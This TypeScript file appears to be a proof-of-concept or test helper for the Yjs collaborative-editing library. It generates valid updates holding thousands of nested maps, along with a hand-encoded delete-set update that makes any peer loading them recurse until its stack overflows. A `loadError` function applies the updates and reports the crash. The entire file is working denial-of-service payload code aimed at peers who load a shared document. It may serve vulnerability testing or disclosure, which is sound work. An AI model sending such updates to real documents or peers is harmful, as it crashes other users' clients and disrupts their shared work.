// Valid Yjs updates that hurt whoever loads them: a chain of nested Y.Maps, each inside the one
// before, whose deletion (or garbage collection, or toJSON) recurses once per level in every
// Y.Doc. About 12,000 levels fit in 140 KB and overflow the stack of any peer.
import * as Y from "yjs";
import * as encoding from "lib0/encoding";

export interface MapChain {
  clientId: number;
  /** All levels in one update. */
  chain: Uint8Array;
  /** A delete set alone, deleting the chain's outermost map: what makes loaders recurse. */
  deleteOutermost: Uint8Array;
}

/** Nests `depth` maps, each in the one before, under root map `rootName`; every `set` is its own update. */
function nest(doc: Y.Doc, depth: number, rootName: string): void {
  let parent = doc.getMap<unknown>(rootName);
  for (let i = 0; i < depth; i++) {
    const child = new Y.Map<unknown>();
    parent.set("k", child);
    parent = child;
  }
}

export function nestedMapChain(depth: number, rootName: string): MapChain {
  const doc = new Y.Doc();
  doc.transact(() => nest(doc, depth, rootName));
  return { clientId: doc.clientID, chain: Y.encodeStateAsUpdate(doc), deleteOutermost: deleteSetUpdate(doc.clientID, 0, 1) };
}

/** The same chain, one update per level, each depending on the one before. */
export function nestedMapLevels(depth: number, rootName: string): { clientId: number; levels: Uint8Array[] } {
  const doc = new Y.Doc();
  const levels: Uint8Array[] = [];
  doc.on("update", (update: Uint8Array) => levels.push(update));
  nest(doc, depth, rootName);
  return { clientId: doc.clientID, levels };
}

/** An update with no structs whose delete set deletes `length` clocks of `client` from `clock`. */
export function deleteSetUpdate(client: number, clock: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 0); // no structs
  encoding.writeVarUint(encoder, 1); // one client in the delete set
  encoding.writeVarUint(encoder, client);
  encoding.writeVarUint(encoder, 1); // one range
  encoding.writeVarUint(encoder, clock);
  encoding.writeVarUint(encoder, length);
  return encoding.toUint8Array(encoder);
}

/** What a peer sees loading these updates: the error it throws, or null if the document loads. */
export function loadError(updates: Uint8Array[]): string | null {
  const doc = new Y.Doc();
  try {
    for (const update of updates) Y.applyUpdate(doc, update);
    doc.getMap("cover").toJSON();
    return null;
  } catch (error) {
    return error instanceof Error ? `${error.name}: ${error.message}` : String(error);
  } finally {
    doc.destroy();
  }
}
